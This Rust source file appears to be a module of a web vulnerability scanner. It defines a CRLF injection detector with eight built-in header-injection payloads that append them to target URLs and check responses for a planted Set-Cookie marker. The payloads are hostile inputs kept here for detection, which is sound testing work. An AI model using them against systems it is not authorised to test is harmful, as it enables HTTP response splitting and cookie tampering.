use std::time::Duration;

use crate::http::{TransportResponse, DEFAULT_TIMEOUT};

use super::{HttpDetector, Injector};

/// Built-in CRLF payloads. Percent sequences are sent as written; raw CR and
/// LF are percent-encoded on the way out since URL parsing drops them.
pub const CRLF_PAYLOADS: [&str; 8] = [
    "%0d%0aSet-Cookie:crlf=injection",
    "%0aSet-Cookie:crlf=injection",
    "%0dSet-Cookie:crlf=injection",
    "%0d%0a%0d%0aHTTP/1.1%20200%20OK",
    "%E5%98%8A%E5%98%8DSet-Cookie:crlf=injection",
    "\r\nSet-Cookie:crlf=injection",
    "\nSet-Cookie:crlf=injection",
    "\rSet-Cookie:crlf=injection",
];

pub const CRLF_MARKER: &str = "crlf=injection";

pub fn payloads() -> Vec<String> {
    CRLF_PAYLOADS.iter().map(|p| p.to_string()).collect()
}

#[derive(Debug, Clone)]
pub struct CrlfDetector {
    timeout: Duration,
}

impl CrlfDetector {
    pub fn new(timeout: Duration) -> Self {
        Self { timeout }
    }
}

impl Default for CrlfDetector {
    fn default() -> Self {
        Self::new(DEFAULT_TIMEOUT)
    }
}

impl Injector for CrlfDetector {
    fn prepare<'a>(&self, payload: &'a str) -> &'a str {
        payload
    }

    fn target_url(&self, target: &str, payload: &str) -> String {
        format!("{}{}", target, encode_line_breaks(payload))
    }
}

/// `\r` and `\n` become `%0D` and `%0A`; everything else is left alone.
fn encode_line_breaks(payload: &str) -> String {
    let mut out = String::with_capacity(payload.len());
    for c in payload.chars() {
        match c {
            '\r' => out.push_str("%0D"),
            '\n' => out.push_str("%0A"),
            _ => out.push(c),
        }
    }
    out
}

impl HttpDetector for CrlfDetector {
    fn timeout(&self) -> Duration {
        self.timeout
    }

    fn follow_redirects(&self) -> bool {
        false
    }

    fn classify(&self, _payload: &str, response: &TransportResponse) -> Option<String> {
        response
            .set_cookies()
            .find(|cookie| cookie.contains(CRLF_MARKER))
            .map(str::to_string)
    }
}
